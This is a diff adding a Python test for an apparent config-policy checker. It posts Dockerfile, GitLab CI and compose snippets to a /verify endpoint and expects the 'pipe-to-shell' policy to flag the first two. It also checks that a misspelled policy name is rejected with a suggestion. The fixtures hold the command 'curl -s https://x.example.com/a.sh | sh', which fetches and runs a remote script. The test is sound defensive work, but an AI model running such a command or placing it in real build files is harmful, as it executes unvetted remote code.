@@ -57,3 +57,22 @@ def test_the_rules_judge_scores_by_the_verdict(client: TestClient) -> None:
         "/judge", json={**body, "answer": "FROM my experience this is easy.\nRUN along now."}
     ).json()
     assert nonsense["would_work"] is False and nonsense["overall"] <= 4
+
+
+def test_a_listed_policy_counts_where_the_category_has_it(client: TestClient) -> None:
+    download = "curl -s https://x.example.com/a.sh | sh"
+    texts = {
+        "dockerfile": f"FROM alpine:3.20\nUSER app\nRUN {download}\n",
+        "gitlab-ci": f"build:\n  script: {download}\n",
+        "compose": "services:\n  web:\n    image: nginx:1.27\n",
+    }
+    bodies = [
+        {"category": name, "text": text, "policies": ["pipe-to-shell"]}
+        for name, text in texts.items()
+    ]
+    verdicts = [client.post("/verify", json=body).json()["verdict"] for body in bodies]
+    assert verdicts == ["fail", "fail", "pass"]
+    refused = client.post("/verify", json={**bodies[0], "policies": ["pipe-to-shel"]})
+    error = refused.json()["error"]
+    assert (refused.status_code, error["param"]) == (422, "policies.0")
+    assert "did you mean 'pipe-to-shell'?" in error["message"]
